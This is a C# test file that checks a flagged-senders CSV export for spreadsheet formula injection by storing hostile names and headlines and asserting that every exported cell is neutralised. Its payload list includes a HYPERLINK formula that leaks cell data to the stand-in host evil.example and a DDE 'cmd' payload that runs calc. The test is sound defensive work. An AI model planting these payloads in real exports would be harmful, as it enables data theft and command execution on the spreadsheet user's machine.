using System.Globalization;
using CsvHelper;
using InviteScreen.Web.Screening;

namespace InviteScreen.Web.Tests.FlaggedSenders;

/// <summary>
/// Hostile names and headlines stored through the API, exported through the real endpoint and parsed back
/// as a spreadsheet would: no cell may start with a character that makes it a formula.
/// </summary>
public sealed class HostileCsvExportTests(InviteScreenAppFactory app) : IClassFixture<InviteScreenAppFactory>
{
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n'];

    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00A0@import",
    ];

    [Fact]
    public async Task Export_HostileNamesAndHeadlines_EveryCellNeutralised()
    {
        var marker = Guid.NewGuid().ToString("N")[..8];
        for (var i = 0; i < Hostile.Length; i++)
        {
            await app.StoreAsync(new InvitationInput
            {
                SenderName = $"{Hostile[i]} {marker}",
                Headline = Hostile[(i + 3) % Hostile.Length],
                Message = Invitations.Generic().Message,
            });
        }

        using var client = app.CreateClient();
        var csv = await client.GetStringAsync($"/invitations/flagged-senders.csv?q={marker}", TestContext.Current.CancellationToken);

        var rows = Parse(csv);
        Assert.Equal(Hostile.Length, rows.Count);
        Assert.All(rows.SelectMany(row => row.Values), cell => Assert.False(cell.Length > 0 && FormulaStarts.Contains(cell[0]), $"cell starts a formula: {cell}"));
        var names = rows.Select(r => r["SenderName"]).ToHashSet();
        Assert.All(Hostile, h => Assert.Contains($"'{h.Trim()} {marker}", names));
    }

    private static List<Dictionary<string, string>> Parse(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var header = reader.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(header.ToDictionary(h => h, h => reader.GetField(h) ?? ""));
        }

        return rows;
    }
}
